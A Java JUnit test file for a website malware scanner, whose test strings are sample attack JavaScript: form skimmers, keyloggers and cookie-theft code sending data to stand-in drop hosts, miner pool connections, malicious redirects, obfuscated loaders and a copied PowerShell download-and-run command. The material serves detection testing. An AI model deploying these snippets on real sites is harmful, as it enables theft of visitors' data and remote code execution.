package jp.mamori.checks.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

class ScriptScannerTest {
  static final URI PAGE = URI.create("https://www.example.co.jp/contact/");
  final ScriptScanner scanner = new ScriptScanner(WebRules.get());

  List<String> checks(String js) {
    return scanner.scan(js, PAGE).observations().stream().map(Observation::check).toList();
  }

  List<String> fileChecks(String js) {
    return scanner.scan(js, PAGE, true).observations().stream().map(Observation::check).toList();
  }

  static String b64(String s) {
    return Base64.getEncoder().encodeToString(s.getBytes());
  }

  @Test
  void obfuscationSignals() {
    assertThat(scanner.obfuscation("eval(atob('YWxlcnQoMSk='))", false)).containsExactly("eval-decode");
    assertThat(scanner.obfuscation("x=String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46)", false))
        .containsExactly("fromCharCode-chain");
    assertThat(scanner.obfuscation("document.write(unescape('%3Cscript%3E'))", false)).contains("unescape-document-write");
    assertThat(scanner.obfuscation("var _0x1a2b=1,_0x3c4d=2,_0x5e6f=3;", false)).containsExactly("_0x-identifiers");
    assertThat(scanner.obfuscation("setTimeout(function(){window.location.href=atob('aHR0cHM6Ly94LmV4YW1wbGUv')},9)", true))
        .containsExactly("encoded-redirect");
    assertThat(scanner.obfuscation("var s='" + "\\x61".repeat(50) + "'", false)).containsExactly("hex-escaped-strings");
    assertThat(scanner.obfuscation("var s='" + "\\x61".repeat(50) + "'", true)).isEmpty();
    assertThat(scanner.obfuscation("eval(atob('" + "QUFB".repeat(100) + "'))", false)).contains("long-encoded-literal");
    // ordinary code: a nonce, a short base64 image, a JSON config
    assertThat(scanner.obfuscation("var wpcf7={\"nonce\":\"a1b2c3d4e5\"};var img='data:image/png;base64,iVBORw0KGgo=';"
        + "String.fromCharCode(code);", false)).isEmpty();
  }

  @Test
  void skimmersNeedHarvestingAndAnOffSiteDrop() {
    assertThat(checks("document.querySelector('form').onsubmit=function(){var d=[];document.querySelectorAll('input')"
        + ".forEach(function(i){d.push(i.value)});new Image().src='https://drop.example/g.gif?'+btoa(d.join());}"))
        .contains("web.skimmer");
    assertThat(checks("var u=atob('" + b64("https://drop.example/s.php") + "');$('form').submit(function(){"
        + "$.post(u,$(this).serialize());});")).contains("web.skimmer");
    // sending the form to the site itself, or only reading values, is normal
    assertThat(checks("form.addEventListener('submit',function(){fetch('/wp-admin/admin-ajax.php',"
        + "{method:'POST',body:new FormData(form)})});")).doesNotContain("web.skimmer");
    assertThat(checks("if(document.getElementById('email').value===''){alert('入力してください')}"))
        .doesNotContain("web.skimmer");
  }

  @Test
  void sendersReachedIndirectlyAndKeyloggers() {
    assertThat(checks("var W=window['Web'+'Socket'];f.onsubmit=function(){var o={};for(var i=0;i<f.elements.length;i++)"
        + "{o[f.elements[i].name]=f.elements[i].value}var s=new W('wss://drop.example/ws');s.send(JSON.stringify(o))}"))
        .contains("web.skimmer");
    assertThat(checks("var h=['example','drop'].reverse().join('.');document.addEventListener('change',function(){var d={};"
        + "document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});Reflect.apply(fetch,window,"
        + "['https://'+h+'/o',{method:'POST',body:JSON.stringify(d)}])})")).contains("web.skimmer");
    assertThat(checks("var h=`${'dr'}${'op'}.${'example'}`;document.addEventListener('input',function(e){k+=e.target.name+"
        + "'='+e.target.value});addEventListener('pagehide',function(){navigator.sendBeacon(`https://${h}/b`,k)})"))
        .contains("web.skimmer");
    // one field looked up as it is typed is not a keylogger
    assertThat(checks("document.getElementById('zip').addEventListener('input',function(e){fetch('https://zip.example/'+"
        + "e.target.value)})")).doesNotContain("web.skimmer");
  }

  @Test
  void coinhiveProtocolClones() {
    assertThat(checks("var w=new WebSocket('wss://pool.example:8443');w.onopen=function(){w.send(JSON.stringify({type:'auth',"
        + "params:{site_key:'k',threads:navigator.hardwareConcurrency}}))};w.onmessage=function(m){if(JSON.parse(m.data).type"
        + "==='job'){}}")).contains("web.cryptominer");
    assertThat(checks("var w=new WebSocket('wss://chat.example/');w.send(JSON.stringify({type:'auth',token:t}))"))
        .doesNotContain("web.cryptominer");
  }

  @Test
  void librariesWithLicenceUrlsAreNotSkimmers() {
    String lib = "/*! Library v1 | (c) Someone | https://github.com/someone/lib */!function(e){var t=new XMLHttpRequest;"
        + "e.fn.val=function(){return this[0].value};t.open('GET',e.url);JSON.stringify(e);"
        + "e.cookie='expires='+encodeURIComponent(e)}(window);";
    assertThat(checks(lib)).doesNotContain("web.skimmer");
    assertThat(fileChecks(lib)).isEmpty();
  }

  @Test
  void redirectsInScript() {
    assertThat(checks("window.location.href='https://casino.example/';")).containsExactly("web.redirect-offsite");
    assertThat(checks("if(document.referrer.indexOf('google')>=0){location.replace('https://casino.example/')}"))
        .containsExactly("web.redirect-search-referrer");
    assertThat(checks("location.href='/news/';")).isEmpty();
    // the address in \x escapes right in the assignment ([fresh7])
    assertThat(checks("if(/google|yahoo/i.test(document.referrer)){window.location.href=\"\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f"
        + "\\x2f\\x6b\\x61\\x69\\x2e\\x74\\x6f\\x70\\x2f\";}")).contains("web.redirect-search-referrer");
    assertThat(checks("var msg=\"\\u524d\\u3078\";location.href='/news/';")).isEmpty();
    assertThat(checks("btn.addEventListener('click',function(){window.location.href='https://shop.example/'})")).isEmpty();
    assertThat(checks("window.open('https://www.facebook.com/share')")).isEmpty();
  }

  @Test
  void minersAndLoaders() {
    assertThat(checks("var m=new CoinHive.Anonymous('k');m.start();")).contains("web.cryptominer");
    ScriptScanner.Result r = scanner.scan("var s=document.createElement('script');s.src='https://loader.example/x.js';"
        + "document.head.appendChild(s);", PAGE);
    assertThat(r.loads()).containsExactly(URI.create("https://loader.example/x.js"));
    assertThat(r.beacons()).isEmpty();
    ScriptScanner.Result frame = scanner.scan("document.write('<iframe src=\"https://gate.example/\" width=0 height=0>')",
        PAGE);
    assertThat(frame.iframeTags()).hasSize(1);
  }

  @Test
  void moreObfuscationShapes() {
    assertThat(scanner.obfuscation("window[\"\\x65\\x76\\x61\\x6c\"](x)", false)).contains("escaped-property-names");
    assertThat(scanner.obfuscation("w[\"\\u0065\\u0076\\u0061\\u006c\"](x)", true)).contains("escaped-property-names");
    // a JSON translation list written with unicode escapes is not property access
    assertThat(scanner.obfuscation("{\"Error:\":[\"\\u30a8\\u30e9\\u30fc:\"]}", false)).isEmpty();
    assertThat(scanner.obfuscation("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]]", false))
        .contains("jsfuck");
    assertThat(scanner.obfuscation("ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻ //*´∇｀*/ ['_'];", false)).contains("aa/jj-encode");
    assertThat(scanner.obfuscation("var d='" + b64("alert(1)") + "';var f=new Function(atob(d));f();", false))
        .isNotEmpty();
    assertThat(scanner.obfuscation("var c=atob(x);new Function(c)();", false)).containsExactly("decoded-code-run");
    assertThat(scanner.obfuscation("eval(String.fromCharCode.apply(null,[118,97,114,32,115,61,49,59,97,61,50,59]))", false))
        .contains("fromCharCode-chain");
    assertThat(scanner.obfuscation("setTimeout(atob('" + b64("alert(1)") + "'),10)", false)).contains("eval-decode");
  }

  @Test
  void skimmersWithTheDropInAVariableOrHidden() {
    assertThat(checks("var k='https://drop.example/p.gif';document.addEventListener('submit',function(){var d={};"
        + "document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});new Image().src=k+'?'+"
        + "btoa(JSON.stringify(d));});")).contains("web.skimmer");
    assertThat(checks("$('form').on('submit',function(){$.post('http://198.51.100.7/g.php',{d:btoa($(this).serialize())})})"))
        .contains("web.skimmer");
    assertThat(fileChecks("var h='https://'+'drop'+'.example/s';document.addEventListener('submit',function(e){"
        + "navigator.sendBeacon(h, new FormData(e.target))});")).contains("web.skimmer");
    // a library that builds an API URL and reads one value is not
    assertThat(fileChecks("var api='https://'+'api'+'.example/v1';function f(el){return fetch(api+'?q='+el.value)}"))
        .doesNotContain("web.skimmer");
    assertThat(fileChecks("var h=\"" + "\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f" + "drop.example/s\";document.addEventListener("
        + "'submit',function(e){navigator.sendBeacon(h,e.target.elements[0].value)});")).contains("web.skimmer");
    // a postal-code lookup reads one field and asks a public API: not a skimmer
    assertThat(checks("$('#zip').on('blur',function(){$.getJSON('https://zip-api.example/search',{zipcode:$(this).val()},"
        + "function(d){$('#addr').val(d.address)})})")).doesNotContain("web.skimmer");
  }

  @Test
  void redirectsInBracketsAndInFiles() {
    assertThat(checks("window['location']['href']='https://casino.example/';")).containsExactly("web.redirect-offsite");
    assertThat(checks("window.top.location='https://casino.example/';")).containsExactly("web.redirect-offsite");
    String referrer = "if(/google|yahoo/.test(document.referrer)){window.location.replace('https://casino.example/')}";
    assertThat(fileChecks(referrer)).containsExactly("web.redirect-search-referrer");
    assertThat(fileChecks("function go(u){window.location.href='https://partner.example/'+u}")).isEmpty();
  }

  @Test
  void minerShapesClickFixAndScriptDefacement() {
    assertThat(checks("var m=new CryptoX.Anonymous('k',{throttle:0.3});m.start();")).contains("web.cryptominer");
    assertThat(checks("for(var i=0;i<navigator.hardwareConcurrency;i++){var w=new Worker(u);w.postMessage({wallet:'x',"
        + "coin:'monero',hashes:0})}")).contains("web.cryptominer");
    assertThat(checks("var p=new WebSocket('wss://pool.example:3333');p.onopen=function(){p.send(JSON.stringify({method:"
        + "'login',params:{}}))};p.onmessage=function(m){if(j.method==='job'){}}")).contains("web.cryptominer");
    assertThat(checks("for(var i=0;i<navigator.hardwareConcurrency;i++){new Worker('/resize.js')}")).isEmpty();
    assertThat(checks("b.onclick=function(){navigator.clipboard.writeText('powershell -w hidden -c \"iwr https://x.example/s.ps1"
        + " | iex\"')}")).contains("web.fake-update");
    assertThat(checks("b.onclick=function(){navigator.clipboard.writeText(location.href)}")).isEmpty();
    assertThat(checks("document.title='Hacked By Someone';document.body.innerHTML='<h1>Hacked By Someone</h1>';"))
        .contains("web.defacement");
    assertThat(checks("document.title='お知らせ | 会社';")).isEmpty();
  }

  @Test
  void loadersWithTheTagNameInAVariableAndFromFiles() {
    ScriptScanner.Result snippet = scanner.scan("(function(d,s){var e=d.createElement(s);e.src='https://'+'tag'+'.example/t.js';"
        + "d.head.appendChild(e)})(document,'script');", PAGE);
    assertThat(snippet.loads()).containsExactly(URI.create("https://tag.example/t.js"));
    ScriptScanner.Result file = scanner.scan("var docs='https://docs.example/api';document.write('<scr'+'ipt src=\"http://"
        + "loader.example/c.js\"></scr'+'ipt>');", PAGE, true);
    assertThat(file.loads()).extracting(URI::getHost).containsExactly("loader.example");
    assertThat(scanner.scan("import('https://esm.example/m.js').then(m=>m.run())", PAGE).loads()).extracting(URI::getHost)
        .containsExactly("esm.example");
    assertThat(scanner.scan("document.forms[0].action='https://post.example/r';", PAGE).formActions())
        .extracting(URI::getHost).containsExactly("post.example");
  }

  @Test
  void codeReadAfterFoldingAndConstants() {
    // a keylogger sending to an address through an <img> made by createElement and setAttribute
    assertThat(checks("var q=[];document.addEventListener('keyup',function(e){q.push(e.target.name+'='+e.target.value)});"
        + "setInterval(function(){var i=document.createElement('img');i.setAttribute('src','http://203.0.113.9:8080/k?'"
        + "+encodeURIComponent(q.join('&')))},5000);")).contains("web.skimmer");
    // appended to a library file, drop URL written backwards
    assertThat(fileChecks("jQuery(function(){});\n;var r='php.c/moc.pord-elpmaxe//:sptth'.split('').reverse().join('');"
        + "jQuery(document).on('submit','form',function(){fetch(r,{method:'POST',body:new FormData(this)})});"))
        .contains("web.skimmer");
    // the drop host in a constant, the URL in a template literal
    assertThat(checks("const h='drop-example.net';f.addEventListener('submit',()=>{const x=new XMLHttpRequest();"
        + "x.open('POST',`https://${h}/s`,true);x.send(JSON.stringify(Object.fromEntries(new FormData(f))));});"))
        .contains("web.skimmer");
    assertThat(checks("setTimeout(function(){self['loc'+'ation']['hr'+'ef']='https://'+'coupon-example'+'.info/'},3000);"))
        .contains("web.redirect-offsite");
    assertThat(fileChecks("jQuery(function($){$('.contact form').attr('action','https://relay-example.com/p.php');});"))
        .isEmpty();
    assertThat(scanner.scan("jQuery(function($){$('.contact form').attr('action','https://relay-example.com/p.php');});",
        PAGE, true).formActions()).extracting(URI::getHost).containsExactly("relay-example.com");
    // a lazy loader setting an image's src from its data- attribute is not a skimmer
    assertThat(checks("document.querySelectorAll('img[data-src]').forEach(function(i){i.setAttribute('src',i.dataset.src)});"
        + "var el=document.getElementById('q');if(el.value){fetch('/search?q='+encodeURIComponent(el.value))}"))
        .doesNotContain("web.skimmer");
  }

  @Test
  void obfuscationWithoutTheUsualNames() {
    // obfuscator.io with renamed identifiers: the string-array rotation and hex-indexed lookups remain
    String rotated = "(function(a,b){var c=d,e=a();while(!![]){try{var f=parseInt(c(0x1e4))/0x1+-parseInt(c(0x1e0))/0x2"
        + "+parseInt(c(0x1e7))/0x3*(parseInt(c(0x1e2))/0x4)+-parseInt(c(0x1e6))/0x5+parseInt(c(0x1df))/0x6;if(f===b)break;"
        + "else e['push'](e['shift']());}catch(g){e['push'](e['shift']());}}}(h,0x5a2c1));function d(a,b){var c=h();"
        + "return d=function(e,f){e=e-0x1df;return c[e];},d(a,b);}(function(){var j=d,k=document[j(0x1e8)](j(0x1ed));"
        + "k[j(0x1ea)]=j(0x1eb);}());";
    assertThat(scanner.obfuscation(rotated, false)).contains("string-array-rotation", "hex-indexed-lookups");
    assertThat(scanner.obfuscation("var _r=\"...\";eval(_r.split(\"\").reverse().join(\"\"));", false))
        .contains("eval-decode");
    assertThat(scanner.obfuscation("var _c=decodeURIComponent('%76%61%72');setTimeout(_c,10);", false))
        .contains("decoded-code-run");
    assertThat(scanner.obfuscation("(function(g){var k='at'+'ob',f='Fun'+'ction';g[f](g[k](p))();})(globalThis);", false))
        .contains("eval-decode");
    // emoji and colour code with hex numbers, timers with named functions: not obfuscation
    assertThat(scanner.obfuscation("var e=String.fromCodePoint(0x1F600);var c=rgb(0x12)+rgb(0x34);setTimeout(tick,100);"
        + "var t=parseInt(s,16);while(q.length){q.push(q.shift())}", false)).isEmpty();
  }

  @Test
  void analyticsAsASinkConstructorsAndRedirectsAppendedToFiles() {
    // every field packed with btoa and pushed into a tag: the attacker's own analytics property is the drop
    assertThat(checks("function _g(){dataLayer.push(arguments)}document.addEventListener('submit',function(){var v={};"
        + "document.querySelectorAll('input').forEach(function(i){v[i.name]=i.value});_g('event','x',{d:btoa("
        + "JSON.stringify(v))})},true);")).contains("web.skimmer");
    // a form-submit event with the form's name (GA4 form tracking) is not
    assertThat(checks("document.querySelectorAll('form').forEach(function(f){f.addEventListener('submit',function(){"
        + "dataLayer.push({event:'form_submit',form_id:f.id})})});")).doesNotContain("web.skimmer");
    assertThat(scanner.obfuscation("[].filter.constructor(atob(p))();", false)).contains("function-constructor");
    assertThat(scanner.obfuscation("(()=>{}).constructor('return this')();", false)).contains("function-constructor");
    assertThat(scanner.obfuscation("var o=new this.constructor(e);x.constructor===Object", false)).isEmpty();
    // appended to a library: a hard-coded redirect run at load counts, a navigate(url) function does not
    assertThat(fileChecks("!function(){}();\n;setTimeout(function(){window.location.href='https://away.example/'},6000);"))
        .contains("web.redirect-offsite");
    assertThat(fileChecks("(function(){location.replace('https://away.example/')})();")).contains("web.redirect-offsite");
    assertThat(fileChecks("var nav={go:function(){window.location.href='https://away.example/'}};")).isEmpty();
    assertThat(fileChecks("function leave(){if(ok){window.location.href='https://away.example/'}}")).isEmpty();
    assertThat(ScriptScanner.runsAtLoad("x{".repeat(20_000) + "location.href='", 40_001)).isFalse();
  }

  /** The libraries a small site really serves (Debian's copies, see .ci/test-packages.txt) raise nothing. */
  @Test
  void realLibrariesAreQuiet() throws IOException {
    for (String lib : List.of("jquery/jquery.min.js", "jquery/jquery.js", "jquery-migrate-1.min.js",
        "underscore/underscore.min.js", "bootstrap5/js/bootstrap.bundle.min.js", "jquery-ui/jquery-ui.min.js")) {
      Path file = Path.of("/usr/share/javascript", lib);
      assertThat(file).as("%s (install the libjs-* packages of .ci/test-packages.txt)", file).exists();
      String js = Files.readString(file);
      assertThat(fileChecks(js)).as(lib).isEmpty();
      assertThat(checks(js)).as(lib + " inline").doesNotContain("web.skimmer", "web.cryptominer", "web.redirect-offsite",
          "web.redirect-search-referrer", "web.defacement", "web.fake-update");
    }
  }

  @Test
  void cookiesHandedToAnOffSiteSendAreTheft() {
    assertThat(fileChecks("jQuery(function($){$.post('https://telemetry.example/in',{h:location.href,c:document.cookie})});"))
        .contains("web.skimmer");
    assertThat(checks("new Image().src='//203.0.113.9/c.php?c='+encodeURIComponent(document.cookie);")).contains("web.skimmer");
    // the site's own endpoint, or a mainstream platform, is not theft; nor is reading a cookie without sending it there
    assertThat(checks("fetch('/wp-json/stats/v1/hit',{method:'POST',body:document.cookie});")).doesNotContain("web.skimmer");
    assertThat(checks("var c=document.cookie.indexOf('consent=')>=0;fetch('https://api.example.net/v1/news')"
        + ".then(function(r){return r.json()});")).doesNotContain("web.skimmer");
  }

  @Test
  void slashEscapedJsonAndScriptUrlsInInlineConfigs() {
    ScriptScanner.Result cfg = scanner.scan("var wpch_cfg={\"u\":\"https:\\/\\/helper-stats.example\\/c.js\","
        + "\"api\":\"https:\\/\\/api.example.net\\/v1\\/\"};", PAGE);
    assertThat(cfg.hostsMentioned()).contains("helper-stats.example", "api.example.net");
    assertThat(cfg.loads()).extracting(URI::getHost).containsExactly("helper-stats.example");
    // a library file quoting a script address is not loading it
    assertThat(scanner.scan("var docs='https://cdn.example.org/plugin.js';", PAGE, true).loads()).isEmpty();
    // what a file hands straight to a send call is kept apart from URLs it merely names
    ScriptScanner.Result file = scanner.scan("var cfg={url:'https://docs.example.org/'};navigator.sendBeacon("
        + "'https://beacon.example.net/b',JSON.stringify({p:location.pathname}));", PAGE, true);
    assertThat(file.sentTo()).extracting(URI::getHost).containsExactly("beacon.example.net");
  }
}
